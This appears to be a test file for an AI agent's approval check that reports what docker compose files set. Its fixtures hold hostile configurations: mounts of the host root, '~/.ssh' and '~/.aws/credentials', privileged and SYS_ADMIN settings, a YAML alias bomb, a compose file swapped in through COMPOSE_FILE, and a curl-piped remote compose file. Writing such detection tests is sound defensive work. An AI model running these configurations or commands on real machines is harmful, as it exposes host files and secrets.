// A compose file is YAML: what a service mounts can come from an anchor (`<<: *base`, `*root`), a
// multi-line or escaped scalar, another file's service (`extends: {file: …}`) or another compose file
// (`include:`). The approval names what the merged services set, not what a line-by-line look shows.
import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import { mkdir, mkdtemp, realpath, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import * as path from 'node:path';
import { packageScriptsRun } from '../../../src/core/agent/tools/package-scripts';
import { composeSettings } from '../../../src/core/agent/tools/compose-files';

let ws: string;
const write = async (file: string, text: string): Promise<void> => {
  await mkdir(path.dirname(path.join(ws, file)), { recursive: true });
  await writeFile(path.join(ws, file), text);
};
before(async () => {
  ws = await realpath(await mkdtemp(path.join(tmpdir(), 'cd-compose-merged-')));
  await write(
    'anchors/compose.yaml',
    [
      'x-root: &root "/:/host"',
      'x-base: &base',
      '  "privil\\x65ged": true',
      'services:',
      '  app:',
      '    <<: *base',
      '    image: node',
      '    volumes: [*root]',
      '    env_file:',
      '      - path: ~/.aws/credentials',
      '        required: false',
      '',
    ].join('\n'),
  );
  await write(
    'folded/compose.yaml',
    'services:\n  app:\n    privileged:\n      true\n    volumes:\n      - >-\n        ~/.ssh:/k\n',
  );
  await write(
    'extends/compose.yaml',
    'services:\n  app:\n    extends:\n      file: ../shared/base.yml\n      service: root\n',
  );
  await write(
    'shared/base.yml',
    'services:\n  root:\n    pid: host\n    volumes:\n      - /etc:/etc\n  other:\n    volumes:\n      - /var:/var\n',
  );
  await write(
    'include/compose.yaml',
    'include:\n  - ops/more.yml\n  - path: [ops/also.yml]\nservices:\n  app:\n    image: x\n',
  );
  await write(
    'include/ops/more.yml',
    'services:\n  more:\n    volumes:\n      - type: bind\n        source: ~/.ssh\n        target: /k\n',
  );
  await write('include/ops/also.yml', 'services:\n  also:\n    cap_add: [SYS_ADMIN]\n');
  await write(
    'loop/compose.yaml',
    'include:\n  - compose.yaml\nservices:\n  a:\n    extends: {file: compose.yaml, service: a}\n',
  );
  await write(
    'bomb/compose.yaml',
    [
      'a: &a ["x","x","x","x","x","x","x","x","x"]',
      'b: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]',
      'c: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]',
      'd: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]',
      'e: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]',
      'f: [*e,*e,*e,*e,*e,*e,*e,*e,*e]',
      'services:',
      '  app:',
      '    privileged: true',
      '',
    ].join('\n'),
  );
});
after(() => rm(ws, { recursive: true, force: true }));

const run = (dir: string, line = 'docker compose up'): Promise<string | undefined> =>
  packageScriptsRun(ws, path.join(ws, dir), line);

test('anchors, merge keys, escaped keys and long env_file entries are followed', async () => {
  assert.equal(
    await run('anchors'),
    'docker compose reads anchors/compose.yaml uses host paths outside the workspace: /, ~/.aws/credentials; sets privileged: true',
  );
  assert.equal(
    await run('folded'),
    'docker compose reads folded/compose.yaml uses host paths outside the workspace: ~/.ssh; sets privileged: true',
  );
});

test('a service that extends another file’s service is named with what that service sets', async () => {
  assert.equal(
    await run('extends'),
    'docker compose reads extends/compose.yaml (with shared/base.yml) uses host paths outside the workspace: /etc; sets pid: host',
  );
});

test('included compose files are read, and a file that includes itself is read once', async () => {
  assert.equal(
    await run('include'),
    'docker compose reads include/compose.yaml (with include/ops/more.yml, include/ops/also.yml) uses host paths outside the workspace: ~/.ssh; sets cap_add: SYS_ADMIN',
  );
  assert.equal(await run('loop'), undefined);
});

test('an alias bomb is not expanded: the file is read line by line and said to be so', async () => {
  const said = await run('bomb');
  assert.match(said ?? '', /sets privileged: true/);
  assert.match(said ?? '', /not read as YAML/);
  assert.ok(
    composeSettings('a: &a [1]\nb: [*a]\nservices: {x: {privileged: true}}').settings.includes('privileged: true'),
  );
});

test('the compose file COMPOSE_FILE names (on the line or in the project’s .env) is the one read', async () => {
  await write('envsel/compose.yaml', 'services:\n  app:\n    image: x\n');
  await write('envsel/ops/evil.yml', 'services:\n  app:\n    privileged: true\n');
  await write('envsel/.env', 'TAG=1\nCOMPOSE_FILE="ops/evil.yml"\n');
  await write('envsel/alt.env', 'COMPOSE_FILE=compose.yaml\n');
  await write('envsel/sub/readme.txt', 'x');
  const evil = 'docker compose reads envsel/ops/evil.yml sets privileged: true';
  assert.equal(await run('envsel'), evil);
  assert.equal(await run('envsel', 'docker compose --env-file alt.env up'), undefined);
  assert.equal(await run('envsel/sub', 'docker compose --project-directory .. up'), evil);
  // Without a compose file in the folder, compose looks in the folders above.
  assert.equal(await run('envsel/sub'), evil);
  await write('plainsel/compose.yaml', 'services:\n  app:\n    image: x\n');
  assert.equal(await run('plainsel', 'COMPOSE_FILE=../envsel/ops/evil.yml docker compose up'), evil);
  assert.equal(await run('plainsel', 'export COMPOSE_FILE=../envsel/ops/evil.yml; docker compose up'), evil);
});

test('a compose file outside the workspace is named as such', async () => {
  const outsideFile = path.join(path.dirname(ws), `${path.basename(ws)}-elsewhere.yml`);
  await writeFile(outsideFile, 'services: {}\n');
  try {
    assert.equal(
      await run('plainsel', `docker compose -f ${outsideFile} up`),
      `docker compose reads ${outsideFile}, outside the workspace`,
    );
  } finally {
    await rm(outsideFile, { force: true });
  }
});

test('a compose file read from standard input is said to be unread', async () => {
  assert.equal(
    await run('plainsel', 'curl -s https://x.example/c.yml | docker compose -f - up'),
    'docker compose reads its compose file from its input: what it sets is not shown',
  );
});
